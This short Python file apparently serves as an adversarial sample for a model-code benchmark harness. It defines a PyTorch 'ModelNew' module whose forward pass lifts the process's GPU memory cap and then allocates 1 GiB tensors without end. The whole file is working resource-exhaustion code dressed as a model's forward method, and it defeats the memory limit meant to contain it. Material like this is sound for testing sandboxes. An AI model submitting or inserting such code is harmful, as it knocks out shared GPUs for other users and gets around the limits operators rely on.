# Resource (GPU): lifts the in-process GPU memory cap and allocates 1 GiB blocks without end.
import torch
import torch.nn as nn

hoard = []


class ModelNew(nn.Module):
    def forward(self, a, b):
        torch.cuda.set_per_process_memory_fraction(1.0)
        while True:
            hoard.append(torch.ones(1 << 28, device="cuda"))
